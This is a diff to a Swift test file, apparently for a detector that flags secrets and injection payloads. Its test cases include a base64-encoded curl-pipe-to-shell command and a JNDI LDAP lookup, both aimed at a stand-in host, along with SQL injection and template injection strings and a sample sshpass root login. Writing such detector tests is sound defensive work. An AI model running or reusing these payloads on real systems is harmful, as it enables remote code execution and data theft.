@@ -51,6 +51,10 @@ import Testing
             (#"{"ssid":"plant"}"#, []), ("WIFI:T:WPA;S:plant;P:hunter22;;", ["wifi_credentials"]),
             ("WIFI:T:nopass;S:plant;;", []), (#"{"access_token":"2YotnFZFEjr1zCsicMWpAA"}"#, ["bearer_token"]),
             ("$6$saltsalt$0123456789abcdefghijklmnop", ["password"]),
+            ("enable secret 5 $1$mERr$hx5rVt7rPNoS4wqbXKX7m0", ["password"]), ("costs $1$ or 2$", []),
+            ("sshpass -p hunter2 ssh root@192.0.2.1", ["password"]), ("man sshpass", []),
+            ("export DB_PASSWORD=hunter2", ["password"]), ("export DB_USER=hunter2", []),
+            ("config wifi-iface\n\toption ssid 'plant'\n\toption key 'hunter22'\n", ["wifi_credentials"]),
         ])
     func secrets(_ payload: String, _ kinds: [String]) throws {
         var inspecting = try Inspecting(["kinds": Self.keys])
@@ -105,6 +109,11 @@ import Testing
             // Base64 of `curl -s http://203.0.113.5/x|sh`.
             ("payload.command", #"{"c":"Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUveHxzaA=="}"#, ["base64_shell"]),
             ("payload.command", #"{"user":"x' OR '1'='1"}"#, ["sql_injection"]),
+            ("payload.command", "' or ''='", ["sql_injection"]),
+            ("payload.command", "1' ORDER BY 10-- ", ["sql_injection"]),
+            ("payload.command", "sorted in order by 10", []), ("payload.command", "pi@gw7:~# whoami", ["shell_output"]),
+            ("payload.command", "mail pi@gw7: whoami", []),
+            ("payload.command", "tcp 0 0 0.0.0.0:22 0.0.0.0:* LISTEN", ["shell_output"]),
             ("payload.command", "please select the union of both sets", []),
             ("payload.command", "${jndi:ldap://203.0.113.5/a}", ["template_injection"]),
             ("payload.command", "{{7*7}}", ["template_injection"]),
